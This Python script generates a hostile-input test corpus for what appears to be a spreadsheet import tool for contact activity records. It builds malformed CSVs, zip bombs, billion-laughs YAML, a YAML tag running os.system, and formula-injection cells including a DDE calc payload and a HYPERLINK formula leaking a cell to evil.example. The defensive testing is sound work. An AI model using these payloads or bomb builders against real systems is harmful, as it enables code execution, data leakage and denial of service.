"""The hostile-input corpus: the files an export tool (or an attacker) may hand over.

    python tests/hostile/make_corpus.py    # rewrite the small files committed beside this script

Small cases are committed in `tests/hostile/` so that a person can open them; the tests
check that they are exactly what this script writes. Large cases (a 50 MB cell, 10,000
columns, zip bombs, a NUL byte past the reader's sample) are never committed: the tests
build them into a temporary folder with the `write_*` functions below, in about a second.

Every CSV case has the columns of `MAPPING` (one mapping for the whole corpus), and its rows
name seeded sandbox contacts (10001 and up), so a case can also be sent to the sandbox.
README.md beside this script lists each case and what the tool does with it.
"""

from __future__ import annotations

import codecs
import struct
import sys
import zlib
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent

HEADER = ("Contact ID", "Type", "Subject", "Notes", "Date")

MAPPING = """\
# The mapping every case of the hostile corpus is read with.
contact: Contact ID
activity:
  type: Type
  subject: Subject
  note: Notes
  occurred_at:
    column: Date
    formats: ["%m/%d/%Y"]
    timezone: America/New_York
"""

GOOD_ROWS = (
    ("10001", "note", "Thank-you call", "Called to thank them", "03/01/2024"),
    ("10002", "phone_call", "Gala invitation", "Will come with a friend", "03/02/2024"),
    ("10003", "email", "Year-end letter", "Sent the receipt", "03/03/2024"),
)

# A cell a spreadsheet would run as a command (the classic DDE payload), and other
# formula-looking text. All of it is the user's text: sent as written, neutralised in
# the results CSV. (A leading tab or carriage return never reaches either: cells are trimmed.)
FORMULA_TEXTS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
)

# Emoji (with skin tone, zero-width joiner, flag), Hebrew, Arabic with harakat, and the
# bidi controls that reorder text on screen: all of it must arrive as written.
EMOJI_RTL = (
    ("10001", "note", "שיחת תודה 🙏", "התורם אמר: ״נתראה בגאלה״ 🎉", "03/01/2024"),
    ("10002", "note", "مكالمة شكر", "قالَ المتبرعُ: سنلتقي في الحفل 👨‍👩‍👧", "03/02/2024"),
    ("10003", "note", "Mixed עברית and English 🇺🇦", "\u202eevil\u202c 👍🏽 done", "03/03/2024"),
)

# What each text encoding the reader detects is given to read: text that encoding can hold.
ENCODED_TEXT = "Zoë’s café — €5 donation"
ENCODED_EMOJI = "Zoë 🎉 שלום"
ENCODINGS = {  # file name -> (codec, byte-order mark, note text)
    "utf-8.csv": ("utf-8", b"", ENCODED_EMOJI),
    "utf-8-sig.csv": ("utf-8", codecs.BOM_UTF8, ENCODED_EMOJI),
    "utf-16-le.csv": ("utf-16-le", codecs.BOM_UTF16_LE, ENCODED_EMOJI),
    "utf-16-be.csv": ("utf-16-be", codecs.BOM_UTF16_BE, ENCODED_EMOJI),
    "utf-32-le.csv": ("utf-32-le", codecs.BOM_UTF32_LE, ENCODED_EMOJI),
    "cp1252.csv": ("cp1252", b"", ENCODED_TEXT),
}


def csv_text(rows: Iterable[Sequence[str]], *, header: Sequence[str] = HEADER) -> str:
    """Rows as CSV text, quoted where needed, each line ending in \\n."""
    lines = [header, *rows]
    return "".join(",".join(_quoted(cell) for cell in line) + "\n" for line in lines)


def _quoted(cell: str) -> str:
    if any(ch in cell for ch in ',"\n\r'):
        return '"' + cell.replace('"', '""') + '"'
    return cell


# -- small cases, committed ---------------------------------------------------------------------


def truncated_mid_row() -> bytes:
    """Cut off after "10004,phone_call,Follow-up,Left a mess": no line break, no date."""
    return (csv_text(GOOD_ROWS) + "10004,phone_call,Follow-up,Left a mess").encode()


def truncated_mid_quote() -> bytes:
    """Cut off inside a quoted cell: the quote is never closed."""
    return (csv_text(GOOD_ROWS) + '10004,note,Follow-up,"She said ""call me').encode()


def nul_byte() -> bytes:
    """A NUL byte inside a note, as a damaged or binary file has."""
    return csv_text(GOOD_ROWS).replace("Sent the receipt", "Sent the\x00 receipt").encode()


def mixed_line_endings() -> bytes:
    """Rows ending in \\r\\n, \\n and a lone \\r (old Mac), plus \\r\\n inside a quoted note."""
    text = csv_text([*GOOD_ROWS, ("10004", "note", "Multi-line", "one\r\ntwo", "03/04/2024")])
    lines = text.split("\n")  # the quoted \r\n stays inside line 4's quotes
    return (lines[0] + "\r\n" + lines[1] + "\n" + lines[2] + "\r" + "\n".join(lines[3:])).encode()


def header_repeated() -> bytes:
    """The header again in the middle, as when two exports are pasted together."""
    return csv_text([*GOOD_ROWS[:2], HEADER, *GOOD_ROWS[2:]]).encode()


def duplicate_columns() -> bytes:
    return csv_text([(*GOOD_ROWS[0], "x")], header=(*HEADER, "Notes")).encode()


def excel_serial_dates() -> bytes:
    """Dates as Excel serial numbers (45352 is 2024-03-01), as a sheet saved as CSV gives."""
    rows = [("10001", "note", "Serial", "n", "45352"), ("10002", "note", "Float", "n", "45352.5")]
    return csv_text([*rows, GOOD_ROWS[2]]).encode()


def formula_text() -> bytes:
    rows = [
        (str(10001 + i), "note", f"Subject {i}", text, "03/01/2024")
        for i, text in enumerate(FORMULA_TEXTS)
    ]
    return csv_text(rows).encode()


def emoji_rtl() -> bytes:
    return csv_text(EMOJI_RTL).encode()


def encoded(name: str) -> bytes:
    codec, bom, note = ENCODINGS[name]
    return bom + csv_text([("10001", "note", "Encoded", note, "03/01/2024")]).encode(codec)


def csv_named_xlsx() -> bytes:
    return csv_text(GOOD_ROWS).encode()


def encrypted_xlsx() -> bytes:
    """What Excel saves for a password-protected .xlsx: not a zip but an OLE compound file
    with the streams `EncryptionInfo` and `EncryptedPackage` (here empty)."""
    return compound_file(["EncryptionInfo", "EncryptedPackage"])


def formula_cells_xlsx() -> bytes:
    """Formulas with their cached results, one without, an error result, and a text cell
    that reads like a formula (Excel's own `'=...`)."""
    rows: list[list[object]] = [
        list(HEADER),
        [10001, "note", Formula('CONCAT("Gala ","call")', "Gala call"), "cached", "03/01/2024"],
        [10002, "note", "Text", "=cmd|' /C calc'!A0", "03/02/2024"],
        [10003, "note", Formula("1/0", "#DIV/0!", error=True), "error result", "03/03/2024"],
        [10004, "note", "Uncached", Formula("A1&B1", None), "03/04/2024"],
    ]
    return xlsx(rows)


def serial_dates_xlsx() -> bytes:
    """45352 (2024-03-01) twice: as a plain number and in a cell formatted as a date."""
    rows: list[list[object]] = [
        list(HEADER),
        [10001, "note", "Plain number", "n", 45352],
        [10002, "note", "Date cell", "n", DateCell(45352)],
    ]
    return xlsx(rows)


def alias_bomb_yaml() -> bytes:
    """ "Billion laughs" with 12 aliases per level: more aliases than the loader allows."""
    return (_laughs(levels=9, per_level=12) + _BASE_MAPPING).encode()


def laughs_within_limit_yaml() -> bytes:
    """Billion laughs with 81 aliases (within the limit) used as the skip rules: 9**9 rules
    if anything walked it as a tree."""
    return (_laughs(levels=9, per_level=9) + _BASE_MAPPING + "skip: *lol9\n").encode()


def python_tag_yaml() -> bytes:
    """A tag that an unsafe loader would run: it would create the file `PWNED` here."""
    return b"contact: !!python/object/apply:os.system ['touch PWNED']\nactivity:\n  type: Type\n"


_BASE_MAPPING = "contact: Contact ID\nactivity:\n  type: Type\n"


def _laughs(*, levels: int, per_level: int) -> str:
    lines = ['lol0: &lol0 ["lol"]']
    for level in range(1, levels + 1):
        aliases = ", ".join([f"*lol{level - 1}"] * per_level)
        lines.append(f"lol{level}: &lol{level} [{aliases}]")
    return "\n".join(lines) + "\n"


SMALL: dict[str, Callable[[], bytes]] = {
    "mapping.yaml": lambda: MAPPING.encode(),
    "truncated-mid-row.csv": truncated_mid_row,
    "truncated-mid-quote.csv": truncated_mid_quote,
    "nul-byte.csv": nul_byte,
    "mixed-line-endings.csv": mixed_line_endings,
    "header-repeated.csv": header_repeated,
    "duplicate-columns.csv": duplicate_columns,
    "excel-serial-dates.csv": excel_serial_dates,
    "formula-text.csv": formula_text,
    "emoji-rtl.csv": emoji_rtl,
    **{f"encoding-{name}": (lambda name=name: encoded(name)) for name in ENCODINGS},
    "csv-named.xlsx": csv_named_xlsx,
    "encrypted.xlsx": encrypted_xlsx,
    "formula-cells.xlsx": formula_cells_xlsx,
    "serial-dates.xlsx": serial_dates_xlsx,
    "alias-bomb.yaml": alias_bomb_yaml,
    "laughs-within-limit.yaml": laughs_within_limit_yaml,
    "python-tag.yaml": python_tag_yaml,
}


def write_small(folder: Path = HERE) -> list[Path]:
    """Write every small case into `folder`; give their paths."""
    written = []
    for name, build in SMALL.items():
        path = folder / name
        path.write_bytes(build())
        written.append(path)
    return written


# -- large cases, built at test time ------------------------------------------------------------


def write_big_cell(path: Path, *, size: int = 50 * 2**20) -> Path:
    """One note of `size` characters (quoted, with a comma and a line break in it), between
    two ordinary rows."""
    big = "Long note, " + "x" * (size - 20) + "\nthe end."
    text = csv_text([GOOD_ROWS[0], ("10002", "note", "Huge", big, "03/02/2024"), GOOD_ROWS[2]])
    path.write_text(text, encoding="utf-8")
    return path


def write_wide(path: Path, *, columns: int = 10_000, rows: int = 5) -> Path:
    """`columns` columns, the mapped ones spread from the first to the last."""
    names = [f"Extra {i}" for i in range(columns)]
    spots = [0, columns // 3, columns // 2, 2 * columns // 3, columns - 1]
    for spot, name in zip(spots, HEADER, strict=True):
        names[spot] = name
    lines = [",".join(names)]
    for row in range(rows):
        cells = [str(i) for i in range(columns)]
        for spot, value in zip(spots, GOOD_ROWS[row % len(GOOD_ROWS)], strict=True):
            cells[spot] = value
        lines.append(",".join(cells))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def write_ragged(path: Path, *, commas: int = 1_000_000, rows: int = 900) -> Path:
    """A 1 MiB file whose fourth row is one line of `commas` commas with a value at its end
    (a ragged row), then `rows` ordinary rows."""
    body = [
        (str(10001 + i % 900), "note", f"Subject {i}", "A note", "03/01/2024") for i in range(rows)
    ]
    ragged = ",".join(GOOD_ROWS[0]) + "," * commas + "stray\n"
    text = csv_text(GOOD_ROWS) + ragged + csv_text(body).split("\n", 1)[1]
    path.write_text(text, encoding="utf-8")
    return path


def write_late_nul(path: Path, *, rows: int = 30_000) -> Path:
    """A NUL byte far past the first MiB that the reader samples."""
    body = [
        (str(10001 + i % 900), "note", f"Subject {i}", "A note", "03/01/2024") for i in range(rows)
    ]
    text = csv_text(body) + "10001,note,Late,bad\x00byte,03/01/2024\n"
    path.write_bytes(text.encode())
    return path


def write_zip_bomb(path: Path, *, expanded: int = 2**30, lie: bool = False) -> Path:
    """An .xlsx (a real one) whose sheet inflates to `expanded` bytes of rows from about
    1 MB on disk: a quarter of a million rows per MiB, ten cells each.

    With `lie`, the zip declares the sheet to be only a few bytes long, to get past a check
    of the declared sizes.
    """
    row = "<row>" + '<c t="inlineStr"><is><t>x</t></is></c>' * 10 + "</row>"
    block = (row * (2**20 // len(row))).encode()
    head, tail = _sheet_xml(xlsx_rows([list(HEADER)])).split(b"</sheetData>")
    times = expanded // len(block)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the compressor starts afresh, so one compressed block stands for
    # every repetition: the bomb is built in milliseconds, not by deflating a gigabyte.
    repeated = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    last = compressor.compress(b"</sheetData>" + tail) + compressor.flush()
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(b"</sheetData>" + tail, crc)
    size = len(head) + times * len(block) + len(b"</sheetData>") + len(tail)
    sheet = _ZipPart(
        "xl/worksheets/sheet1.xml",
        first + repeated * times + last,
        crc=crc,
        size=5000 if lie else size,
        deflated=True,
    )
    parts = [_ZipPart.stored(name, data) for name, data in _xlsx_parts(b"").items()]
    parts = [sheet if part.name == sheet.name else part for part in parts]
    path.write_bytes(_zip(parts))
    return path


def write_many_parts(path: Path, *, parts: int = 2100) -> Path:
    """An .xlsx with `parts` extra parts of 1 MiB each (of spaces, deflated to about 1 KB):
    each part is under the size from which inflation is checked, all together over 2 GiB."""
    block = b" " * 2**20
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = compressor.compress(block) + compressor.flush()
    crc = zlib.crc32(block)
    filler = [
        _ZipPart(f"xl/media/filler{i}.xml", deflated, crc=crc, size=len(block), deflated=True)
        for i in range(parts)
    ]
    sheet = _sheet_xml(xlsx_rows([list(HEADER), list(GOOD_ROWS[0])]))
    stored = [_ZipPart.stored(name, data) for name, data in _xlsx_parts(sheet).items()]
    path.write_bytes(_zip(stored + filler))
    return path


# -- building workbooks by hand -----------------------------------------------------------------


class Formula:
    """A formula cell: its formula and the result Excel saved with it (None: none saved)."""

    def __init__(self, formula: str, cached: str | None, *, error: bool = False) -> None:
        self.formula, self.cached, self.error = formula, cached, error


class DateCell:
    """A number in a cell formatted as a date (m/d/yyyy): Excel's way of storing a date."""

    def __init__(self, serial: float) -> None:
        self.serial = serial


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006"


def xlsx(rows: list[list[object]]) -> bytes:
    """A minimal .xlsx (stored, not deflated: the same bytes on every machine)."""
    parts = _xlsx_parts(_sheet_xml(xlsx_rows(rows)))
    return _zip([_ZipPart.stored(name, data) for name, data in parts.items()])


def xlsx_rows(rows: list[list[object]]) -> str:
    return "".join(
        f'<row r="{r}">' + "".join(_cell(r, c, v) for c, v in enumerate(row)) + "</row>"
        for r, row in enumerate(rows, start=1)
    )


def _cell(row: int, column: int, value: object) -> str:
    ref = f"{chr(ord('A') + column)}{row}"
    if isinstance(value, Formula):
        kind = "e" if value.error else "str"
        cached = "" if value.cached is None else f"<v>{escape(value.cached)}</v>"
        return f'<c r="{ref}" t="{kind}"><f>{escape(value.formula)}</f>{cached}</c>'
    if isinstance(value, DateCell):
        return f'<c r="{ref}" s="1"><v>{value.serial}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = escape(str(value))
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def _sheet_xml(rows_xml: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}">'
        f"<sheetData>{rows_xml}</sheetData></worksheet>"
    ).encode()


def _xlsx_parts(sheet: bytes) -> dict[str, bytes]:
    types = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return {
        "[Content_Types].xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_PKG}/content-types">'
            '<Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{types}.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml"'
            f' ContentType="{types}.worksheet+xml"/>'
            f'<Override PartName="/xl/styles.xml" ContentType="{types}.styles+xml"/></Types>'
        ).encode(),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}/relationships">'
            f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ).encode(),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="{_REL}">'
            '<sheets><sheet name="Activities" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}/relationships">'
            f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{_REL}/styles" Target="styles.xml"/>'
            "</Relationships>"
        ).encode(),
        "xl/styles.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="{_MAIN}">'
            '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/>'
            "</cellXfs></styleSheet>"
        ).encode(),
        "xl/worksheets/sheet1.xml": sheet,
    }


class _ZipPart:
    def __init__(self, name: str, data: bytes, *, crc: int, size: int, deflated: bool) -> None:
        self.name, self.data, self.crc, self.size, self.deflated = name, data, crc, size, deflated

    @classmethod
    def stored(cls, name: str, data: bytes) -> _ZipPart:
        return cls(name, data, crc=zlib.crc32(data), size=len(data), deflated=False)


_DOS_TIME, _DOS_DATE = 0, (2024 - 1980) << 9 | 1 << 5 | 1  # 2024-01-01 00:00, fixed


def _zip(parts: list[_ZipPart]) -> bytes:
    """A zip archive written by hand, so a part's declared size can be anything."""
    out, central = bytearray(), bytearray()
    for part in parts:
        name = part.name.encode()
        method = 8 if part.deflated else 0
        fields = (20, 0, method, _DOS_TIME, _DOS_DATE, part.crc, len(part.data), part.size)
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, len(name), 0) + name + part.data
        central += struct.pack("<IH", 0x02014B50, 20) + struct.pack("<HHHHHIII", *fields)
        central += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, offset) + name
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(central), len(out), 0
    )
    return bytes(out + central + end)


# -- an OLE compound file (what encrypted Office files are) -------------------------------------

_FREE, _END, _FAT_SECTOR, _NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def compound_file(streams: list[str]) -> bytes:
    """A minimal, well-formed compound file (version 3, 512-byte sectors): sector 0 is the
    FAT, sector 1 the directory, with a root storage and the named (empty) streams."""
    header = OLE_MAGIC + bytes(16)
    header += struct.pack(
        "<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, _END, 0, _END, 0
    )
    header += struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108
    fat = struct.pack("<II", _FAT_SECTOR, _END) + struct.pack("<I", _FREE) * 126
    entries = [_directory_entry("Root Entry", 5, child=1 if streams else _NO_STREAM)]
    for number, name in enumerate(streams, start=1):
        right = number + 1 if number < len(streams) else _NO_STREAM
        entries.append(_directory_entry(name, 2, right=right))
    directory = b"".join(entries).ljust(512, b"\x00")
    return header + fat + directory


def _directory_entry(
    name: str, kind: int, *, right: int = _NO_STREAM, child: int = _NO_STREAM
) -> bytes:
    encoded = (name + "\x00").encode("utf-16-le")
    return (
        encoded.ljust(64, b"\x00")
        + struct.pack("<HBBIII", len(encoded), kind, 1, _NO_STREAM, right, child)
        + bytes(16 + 4 + 8 + 8)  # class id, state bits, creation and modification times
        + struct.pack("<IQ", _END, 0)  # first sector, size: an empty stream
    )


if __name__ == "__main__":
    for written in write_small(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE):
        print(written)
